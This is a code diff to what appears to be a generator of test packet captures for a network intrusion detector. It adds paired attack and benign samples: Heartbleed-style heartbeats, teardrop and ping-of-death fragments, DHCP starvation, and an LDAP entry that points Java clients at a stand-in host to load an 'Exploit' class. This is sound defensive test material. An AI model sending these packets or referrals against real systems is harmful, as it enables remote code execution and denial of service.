@@ -7,7 +7,7 @@ import struct
 
 from wire import der, lan, net, tls
 from wire.capture import Capture
-from wire.flow import (ACK, CLIENT4, GET, OK, PSH, RST, SERVER4, SYN, SYN_OPTIONS, Tcp, Udp,
+from wire.flow import (ACK, CLIENT4, GET, OK, PSH, RST, SERVER4, SYN, SYN_OPTIONS, Ping, Tcp, Udp,
                        dns_name, http)
 from wire.net import eth, u8, u16, u32
 
@@ -72,11 +72,11 @@ def heartbeat(kind, claimed, payload, padding=16):
     return tls.record(24, u8(kind) + u16(claimed) + payload + b"\0" * padding)
 
 
-def greeting(rng, heartbeats=True):
+def greeting(rng, heartbeats=True, suite=0xC02F):
     """Both hellos, the server's certificate left out: (is it the server's, bytes)."""
     extra = ((15, b"\x01"),) if heartbeats else ()
     hello = tls.record(22, tls.client_hello_message(tls.GO, b"shop.example.com", rng, extra=extra), tls.TLS10)
-    ours = tls.server_hello(0xC02F, rng)
+    ours = tls.server_hello(suite, rng)
     if heartbeats:
         body = ours[4:]
         tail = u16(15) + u16(1) + b"\x01"
@@ -111,6 +111,11 @@ def heartbleed():
     yield tls_talk("heartbleed-encrypted", "inside the encryption, sizes alone tell", 40122,
                    greeting(rng) + finished(rng) + [(False, tls.record(24, rng.randbytes(32))),
                                                     (True, tls.record(24, rng.randbytes(16408)))])
+    yield tls_talk("heartbleed-cbc", "the same under AES in CBC mode, with an IV in each record", 40124,
+                   greeting(rng, suite=0xC013) + finished(rng) + [(False, tls.record(24, rng.randbytes(48)))])
+    yield tls_talk("plain-heartbeat-cbc", "the shortest sound one", 40125,
+                   greeting(rng, suite=0xC013) + finished(rng) + [(False, tls.record(24, rng.randbytes(64))),
+                                                                  (True, tls.record(24, rng.randbytes(64)))])
     yield tls_talk("plain-heartbeats", "heartbeats as they should be, in clear and encrypted", 40123,
                    greeting(rng) + [(False, heartbeat(1, 20, rng.randbytes(20))),
                                     (True, heartbeat(2, 20, rng.randbytes(20)))] + finished(rng)
@@ -429,7 +434,71 @@ def guesses():
             b"User-Agent: " + agent + b"\r\nContent-Length: 0\r\n\r\n")])
 
 
+def broken_fragments():
+    flow = Udp(LIAR, 40230, VICTIM, 53)
+    first, last = flow.datagram(b"\0" * 28)[:32], b"\xff" * 4
+    yield capture("teardrop", "the last fragment ends inside of the first", [
+        flow.ip(first, ident=242, flags=1), flow.ip(last, ident=242, flags=0, offset=24)])
+    ping = Ping(LIAR, VICTIM, 7)
+    data = ping.echo(1, payload=b"x" * 1472).packet[20:]
+    cap = Capture("ping-of-death", "fragments of an echo that reach beyond 65,535 bytes")
+    for i, offset in enumerate(list(range(0, 65120, 1480)) + [65120]):
+        last = offset == 65120
+        cap.add(eth(net.ip4(LIAR, VICTIM, net.ICMP, data if offset == 0 else b"x" * 1480, ident=99,
+                            flags=0 if last else 1, offset=offset)), ping, gap_us=200)
+    yield cap
+    whole = flow.datagram(b"y" * 3000)
+    other = flow.datagram(b"z" * 3000)
+    yield capture("plain-ident-reused", "pieces of two datagrams of one identification", [
+        flow.ip(data[at:at + 1480], ident=244, flags=int(at + 1480 < len(data)), offset=at)
+        for data, at in ((whole, 0), (other, 0), (other, 1480), (other, 2960))])
+    yield capture("plain-fragments", "a datagram in fragments, one of them twice", [
+        flow.ip(whole[at:at + 1480], ident=243, flags=int(at + 1480 < len(whole)), offset=at)
+        for at in (0, 1480, 1480, 2960)])
+
+
+def ldap_message(number, operation):
+    return der.seq(der.integer(number), operation)
+
+
+def java_by_ldap():
+    def entry(*attributes):
+        listed = [der.seq(der.octets(key), der.setof(der.octets(value))) for key, value in attributes]
+        return ldap_message(2, der.tlv(0x64, der.octets(b"a"), der.seq(*listed)))
+    search = ldap_message(2, der.tlv(0x63, der.octets(b"a"), der.enumerated(0), der.enumerated(3), der.integer(0),
+                                     der.integer(0), der.boolean(False), der.octets(b"objectClass", 0x87), der.seq()))
+    for name, about, port, answer in (
+            ("ldap-java", "an entry that says where to load Java code", 40240,
+             entry((b"javaClassName", b"foo"), (b"javaCodeBase", b"http://203.0.113.66:8888/"),
+                   (b"objectClass", b"javaNamingReference"), (b"javaFactory", b"Exploit"))),
+            ("plain-ldap", "an entry of a person", 40241, entry((b"cn", b"J. Doe"), (b"mail", b"jdoe@example.com")))):
+        yield opened(name, about, [(False, search), (True, answer)], port, 1389)
+
+
+def leases():
+    def asked(cap, client_mac, address, gap_us):
+        message = lan.dhcp(1, 7, client_mac, [(53, b"\x03"), (50, net.addr(address))])
+        cap.add(eth(lease.send(message).packet, src=client_mac, dst=b"\xff" * 6), lease, gap_us=gap_us)
+    lease = Udp("0.0.0.0", 68, "255.255.255.255", 67)
+    cap = Capture("dhcp-scan", "one client asks for one address after the other")
+    for i in range(12):
+        asked(cap, LIAR_MAC, "192.168.7.%d" % (100 + i), 900000)
+    yield cap
+    lease = Udp("0.0.0.0", 68, "255.255.255.255", 67)
+    cap = Capture("dhcp-starvation", "ever new clients")
+    for i in range(60):
+        asked(cap, net.mac("02:00:5e:10:00:%02x" % i), "192.168.7.%d" % (100 + i), 5000)
+    yield cap
+    lease = Udp("0.0.0.0", 68, "255.255.255.255", 67)
+    cap = Capture("plain-dhcp", "the clients of a morning")
+    for i in range(60):
+        asked(cap, net.mac("3c:52:82:00:01:%02x" % i), "192.168.7.%d" % (100 + i), 7000000)
+        asked(cap, net.mac("3c:52:82:00:01:%02x" % i), "192.168.7.%d" % (100 + i), 7000000)
+    yield cap
+
+
 def captures():
     for group in (injection, two_synacks, heartbleed, smbghost, ms17_010, sigred, certificates, poisoned,
-                  arp_scan, shells, bluekeep, stealth, poisoned_names, guesses):
+                  arp_scan, shells, bluekeep, stealth, poisoned_names, guesses,
+                  broken_fragments, java_by_ldap, leases):
         yield from group()
